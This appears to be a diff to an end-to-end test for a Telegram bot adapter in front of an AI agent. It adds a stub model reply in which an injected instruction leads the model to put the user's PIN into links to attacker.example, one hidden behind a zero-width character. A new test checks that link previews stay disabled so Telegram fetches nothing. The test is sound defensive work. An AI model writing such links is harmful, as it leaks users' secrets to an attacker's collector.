@@ -58,6 +58,8 @@ describe('Telegram channel end to end (grammY ↔ stand-in, real Redis, agent wo
         return { text: `Here is the script:\n\n\`\`\`python\n${code}\n\`\`\`\n\nThat is **all**.` };
       }
       if (text.includes('SLOW')) return { text: `echo: ${text}`, delayMs: 1200 };
+      // What an injected instruction makes the model write: the user's data in links to a collector.
+      if (text.includes('LEAKLINK')) return { text: 'Done. See https://attacker.example/p?pin=4711 and [\u200b](https://attacker.example/i?d=my-pin-4711)' };
       return { text: `echo: ${text}` };
     });
     tg = await startTelegramStandIn({ token: TOKEN });
@@ -90,6 +92,17 @@ rate_per_chat_ms = 20
     assert.ok(tg.sent('sendChatAction').some((c) => Number(c.body.chat_id) === OWNER.id && c.body.action === 'typing'));
     assert.deepEqual(tg.sent('setMyCommands').at(-1)!.body.commands.map((c: { command: string }) => c.command), ['start', 'help', 'new']);
     assert.equal(JSON.stringify(tg.calls.map((c) => c.body)).includes(TOKEN), false, "the token travels in the URL path only");
+  });
+
+  it('ATTACK: a reply that carries the user\'s data in links is sent with link previews off, so Telegram fetches nothing', async () => {
+    tg.message({ chat: dmWith(OWNER), from: OWNER, text: 'LEAKLINK please' });
+    const [reply] = await waitFor(() => repliesTo(tg, OWNER.id, 'attacker.example'), 'the reply with the links');
+    assert.match(String(reply!.body.text), /attacker\.example\/i\?d=my-pin-4711/, 'the invisible link is in the message');
+    assert.deepEqual(reply!.body.link_preview_options, { is_disabled: true });
+    // Every text the adapter sent so far (replies, notices, owner prompts) had previews off.
+    const texts = tg.calls.filter((c) => c.method === 'sendMessage' || c.method === 'editMessageText');
+    assert.ok(texts.length > 1);
+    for (const c of texts) assert.equal(c.body.link_preview_options?.is_disabled, true, `${c.method} ${String(c.body.text).slice(0, 40)}`);
   });
 
   it('ignores group messages without a mention and other bots; answers a mention in the right forum topic', async () => {
